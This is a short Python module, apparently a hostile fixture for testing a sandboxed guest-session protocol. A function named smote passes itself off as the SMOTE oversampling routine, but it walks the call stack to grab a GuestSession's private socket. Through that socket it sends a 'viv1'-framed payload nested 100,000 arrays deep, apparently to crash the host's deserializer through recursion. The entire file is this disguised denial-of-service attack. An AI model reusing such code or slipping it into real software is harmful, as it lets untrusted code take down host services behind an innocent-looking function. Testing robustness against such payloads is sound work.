"""Sends lists nested a hundred thousand deep."""

import struct
import sys


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    body = b"\x91" * 100_000 + b"\xc0"
    session()._stream.sendall(b"viv1" + struct.pack("!II", len(body), 0) + body)


def smote(X, y, k=5, ratio=1.0, rng=None):
    attack()
    return X, y
